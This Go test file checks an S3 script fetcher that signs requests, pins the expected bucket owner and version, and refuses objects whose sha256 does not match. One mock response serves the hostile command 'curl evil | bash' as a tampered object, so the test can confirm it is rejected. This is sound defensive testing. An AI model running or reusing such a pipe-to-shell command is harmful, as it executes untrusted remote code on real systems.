package agent

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
	"github.com/aws/aws-sdk-go-v2/credentials"

	"github.com/stateful-aws/stateful/internal/clock"
)

func hexSHA256(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}

// TestS3FetcherSignsAndPinsTheGet: the GET is signed as the SDK signs it,
// carries the expected bucket owner (signed) and the version, and an
// object whose sha256 is not the pinned one is refused.
func TestS3FetcherSignsAndPinsTheGet(t *testing.T) {
	now := time.Date(2026, 5, 1, 12, 0, 0, 0, time.UTC)
	creds := aws.Credentials{AccessKeyID: "AKID", SecretAccessKey: "SECRET", SessionToken: "TOKEN"}
	const script = "configure_cluster_node() { :; }"
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		check, _ := http.NewRequest(http.MethodGet, "https://"+r.Host+r.URL.RequestURI(), nil)
		check.Header.Set("X-Amz-Content-Sha256", r.Header.Get("X-Amz-Content-Sha256"))
		check.Header.Set("X-Amz-Expected-Bucket-Owner", r.Header.Get("X-Amz-Expected-Bucket-Owner"))
		_ = v4.NewSigner(func(o *v4.SignerOptions) { o.DisableURIPathEscaping = true }).SignHTTP(context.Background(), creds, check,
			r.Header.Get("X-Amz-Content-Sha256"), "s3", "eu-west-1", now)
		if r.Host != "scripts.s3.eu-west-1.amazonaws.com" || check.Header.Get("Authorization") != r.Header.Get("Authorization") ||
			!strings.Contains(r.Header.Get("Authorization"), "x-amz-expected-bucket-owner") {
			http.Error(w, "SignatureDoesNotMatch", http.StatusForbidden)
			return
		}
		if r.Header.Get("X-Amz-Expected-Bucket-Owner") != "111122223333" {
			http.Error(w, "AccessDenied", http.StatusForbidden) // S3's answer when another account owns the bucket
			return
		}
		switch r.URL.Path {
		case "/nodes/node.sh":
			if v := r.URL.Query().Get("versionId"); v != "" && v != "v2" {
				http.Error(w, "NoSuchVersion", http.StatusNotFound)
				return
			}
			_, _ = w.Write([]byte(script))
		case "/nodes/replaced.sh":
			_, _ = w.Write([]byte("curl evil | bash"))
		default:
			http.Error(w, "NoSuchKey", http.StatusNotFound)
		}
	}))
	defer srv.Close()
	t.Setenv("STATEFUL_S3_ENDPOINT", srv.URL)
	fetch := S3Fetcher(aws.Config{Region: "eu-west-1", Credentials: credentials.StaticCredentialsProvider{Value: creds}}, func() time.Time { return now })
	ctx := context.Background()
	pinned := S3Object{URL: "s3://scripts/nodes/node.sh", SHA256: hexSHA256(script), ExpectedBucketOwner: "111122223333"}
	if b, err := fetch(ctx, pinned); err != nil || string(b) != script {
		t.Fatalf("fetch: %q, %v", b, err)
	}
	versioned := pinned
	versioned.VersionID = "v2"
	if b, err := fetch(ctx, versioned); err != nil || string(b) != script {
		t.Fatalf("fetch of version v2: %q, %v", b, err)
	}
	for name, o := range map[string]S3Object{
		"another version":       {URL: pinned.URL, SHA256: pinned.SHA256, ExpectedBucketOwner: "111122223333", VersionID: "v1"},
		"a replaced object":     {URL: "s3://scripts/nodes/replaced.sh", SHA256: pinned.SHA256, ExpectedBucketOwner: "111122223333"},
		"another bucket owner":  {URL: pinned.URL, SHA256: pinned.SHA256, ExpectedBucketOwner: "999988887777"},
		"no sha256":             {URL: pinned.URL, ExpectedBucketOwner: "111122223333"},
		"no expected owner":     {URL: pinned.URL, SHA256: pinned.SHA256},
		"a missing key":         {URL: "s3://scripts/missing.sh", SHA256: pinned.SHA256, ExpectedBucketOwner: "111122223333"},
		"a URL without any key": {URL: "s3://no-key", SHA256: pinned.SHA256, ExpectedBucketOwner: "111122223333"},
	} {
		if b, err := fetch(ctx, o); err == nil {
			t.Errorf("%s: fetched %q, want a refusal", name, b)
		}
	}
	if _, err := fetch(ctx, S3Object{URL: "s3://scripts/nodes/replaced.sh", SHA256: pinned.SHA256, ExpectedBucketOwner: "111122223333"}); err == nil || !strings.Contains(err.Error(), "not the pinned") {
		t.Errorf("a replaced object: %v, want the sums named", err)
	}
}

func TestScriptComesFromS3FirstWithInlineFallback(t *testing.T) {
	t.Parallel()
	cfg := &Config{Script: Script{InlineBase64: b64("inline"), S3URL: "s3://b/k"}}
	a := &Agent{cfg: cfg, log: discard(), d: Deps{Clock: clock.Real{}, FetchS3: func(context.Context, S3Object) ([]byte, error) { return []byte("from s3"), nil }}}
	if b, err := a.script(context.Background()); err != nil || string(b) != "from s3" {
		t.Fatalf("with S3 up: %q %v", b, err)
	}
	a.d.FetchS3 = func(context.Context, S3Object) ([]byte, error) { return nil, errors.New("403 Forbidden") }
	if b, err := a.script(context.Background()); err != nil || string(b) != "inline" {
		t.Fatalf("with S3 down: %q %v", b, err)
	}
	cfg.Script.InlineBase64 = ""
	if _, err := a.script(context.Background()); err == nil {
		t.Fatal("no S3 and no inline copy: no error")
	}
}
